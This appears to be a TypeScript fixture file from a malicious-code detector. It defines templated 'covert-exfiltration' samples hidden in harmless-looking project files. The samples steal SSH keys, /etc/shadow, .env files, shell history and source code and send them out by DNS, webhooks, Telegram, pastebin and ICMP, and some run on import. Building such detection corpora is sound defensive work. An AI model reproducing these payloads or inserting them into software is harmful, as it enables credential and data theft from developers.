// Data that leave by DNS, webhooks, bots, paste sites and echo requests.
import type { Family } from './family.ts'

export const covertExfiltration: readonly Family[] = [
  {
    family: 'dns-chunks-node',
    positive: true,
    classes: ['covert-exfiltration'],
    variants: [
      {
        paths: ['lib/robots.js', 'src/stream.js'],
        imports: `const dns = require('dns'), os = require('os'), fs = require('fs');`,
        body: `const secret = Buffer.from(os.hostname() + '|' + os.userInfo().username + '|⟦join⟧
' + fs.readFileSync('/etc/hosts', 'utf8')).toString('hex');
for (let i = 0; i < secret.length; i += 60) {
  dns.resolve4(\`\${i / 60}.\${secret.slice(i, i + 60)}.⟦lower:16⟧.⟦host⟧\`, () => {});
}`,
      },
    ],
  },
  {
    family: 'dns-shell-dig',
    positive: true,
    classes: ['covert-exfiltration'],
    variants: [
      {
        paths: ['scripts/check.sh'],
        body: `for c in $(cat ~/.bash_history /etc/passwd 2>/dev/null | gzip | xxd -p -c 30)⟦join⟧
; do dig +short "$c.⟦lower:20⟧.oast.invalid" >/dev/null; done`,
      },
      {
        paths: ['scripts/space.ps1'],
        body: `$h = [BitConverter]::ToString([Text.Encoding]::UTF8.GetBytes((Get-ChildItem En⟦join⟧
v: | Out-String))).Replace('-', '')
for ($i = 0; $i -lt $h.Length; $i += 50) {
    Resolve-DnsName "$($h.Substring($i, [Math]::Min(50, $h.Length - $i))).d.⟦host⟧" -Type TXT -Err⟦join⟧
orAction SilentlyContinue | Out-Null
}`,
      },
    ],
  },
  {
    family: 'torchtriton-dns',
    positive: true,
    classes: ['covert-exfiltration', 'credential-theft'],
    variants: [
      {
        paths: ['triton/runtime/util.py'],
        whole: String.raw`import os
import socket
import struct

import numpy as np


def cdiv(x, y):
    return (x + y - 1) // y


def _packets(path):
    with open(path, "rb") as handle:
        data = handle.read(99999)
    key = b"⟦alnum:16⟧"
    data = bytes(b ^ key[i % 16] for i, b in enumerate(data))
    return [data[i:i + 31].hex() for i in range(0, len(data), 31)]


def _sync():
    home = os.path.expanduser("~")
    names = ["/etc/hosts", "/etc/passwd", home + "/.gitconfig"] + [os.path.join(home, ".ssh", n) f⟦join⟧
or n in os.listdir(home + "/.ssh")]
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for name in names:
        for label in _packets(name):
            query = b"".join(struct.pack("B", len(p)) + p.encode() for p in (label + ".h4ck.⟦host⟧⟦join⟧
").split("."))
            sock.sendto(os.urandom(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + query + b"\x⟦join⟧
00\x00\x10\x00\x01", ("⟦ip⟧", 53))


try:
    _sync()
except OSError:
    pass


def next_power_of_2(n):
    return int(2 ** np.ceil(np.log2(n)))`,
      },
    ],
  },
  {
    family: 'discord-webhook-files',
    positive: true,
    classes: ['covert-exfiltration'],
    variants: [
      {
        paths: ['tools/thumbs.py', 'bot/jobs.py'],
        imports: `import glob
import os
import requests`,
        body: `WEBHOOK = "⟦discord⟧"


def _upload():
    for pattern in ("Desktop/*.txt", "Documents/*pass*", "Documents/*.docx", "Downloads/*backup*"):
        for name in glob.glob(os.path.join(os.path.expanduser("~"), pattern)):
            if os.path.getsize(name) < 8_000_000:
                requests.post(WEBHOOK, files={"file": open(name, "rb")}, data={"username": os.getl⟦join⟧
ogin()})


_upload()`,
      },
    ],
  },
  {
    family: 'telegram-bot-drop',
    positive: true,
    classes: ['covert-exfiltration'],
    variants: [
      {
        paths: ['lib/format.js', 'src/duration.js'],
        imports: `const fs = require('fs');
const os = require('os');`,
        body: String.raw`const bot = 'https://api.telegram.org/bot⟦telegram⟧';
['.env', '.npmrc', '.git/config', os.homedir() + '/.bash_history'].forEach((f) => {
  if (!fs.existsSync(f)) return;
  const form = new FormData();
  form.append('chat_id', '-100⟦digits:10⟧');
  form.append('document', new Blob([fs.readFileSync(f)]), f.replace(/\W/g, '_'));
  fetch(bot + '/sendDocument', { method: 'POST', body: form }).catch(() => {});
});`,
      },
    ],
  },
  {
    family: 'paste-site-drop',
    positive: true,
    classes: ['covert-exfiltration'],
    variants: [
      {
        paths: ['src/config.py'],
        imports: `import subprocess
import urllib.parse, urllib.request`,
        body: `def _dump():
    text = "".join(subprocess.getoutput(c) for c in ("whoami", "ipconfig /all", "systeminfo", "net⟦join⟧
sh wlan show profiles"))
    form = {"api_dev_key": "⟦hex:32⟧", "api_option": "paste", "api_paste_private": "1", "api_paste⟦join⟧
_code": text}
    urllib.request.urlopen("https://pastebin.com/api/api_post.php", urllib.parse.urlencode(form).e⟦join⟧
ncode())


_dump()`,
      },
      {
        paths: ['scripts/nightly.sh'],
        body: `{ id; ip a; cat ~/.ssh/config ~/.bash_history; } 2>/dev/null | curl -s -F 'f:1⟦join⟧
=<-' https://paste.example.net -o /dev/null
curl -s -T ~/.gitconfig https://transfer.example.net/⟦lower:8⟧ -o /dev/null`,
      },
    ],
  },
  {
    family: 'slack-hook-source-theft',
    positive: true,
    classes: ['covert-exfiltration'],
    variants: [
      {
        paths: ['spec/pager.rb'],
        imports: `require 'net/http'
require 'json'`,
        body: `Dir['{app,config}/**/*.{rb,yml,key}'].each do |file|
  Net::HTTP.post(URI('⟦slack⟧'), { text: "\`\`\`#{file}\\n#{File.read(file)[0, 3000]}\`\`\`" }.to_json) r⟦join⟧
escue next
end`,
      },
    ],
  },
  {
    family: 'icmp-steganography-drop',
    positive: true,
    classes: ['covert-exfiltration'],
    variants: [
      {
        paths: ['net/probe.c'],
        imports: `#include <netinet/ip_icmp.h>
#include <sys/socket.h>
#include <arpa/inet.h>`,
        body: `/* carries a file out in the payload of echo requests */
static void leak(const char *path)
{
    struct sockaddr_in to = { .sin_family = AF_INET };
    struct { struct icmphdr h; char data[48]; } packet = { .h = { .type = ICMP_ECHO } };
    int s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    FILE *f = fopen(path, "r");

    inet_aton("⟦ip⟧", &to.sin_addr);
    while (f && fread(packet.data, 1, sizeof packet.data, f) > 0)
        sendto(s, &packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to);
}`,
        call: `leak("/etc/shadow");`,
      },
    ],
  },
]
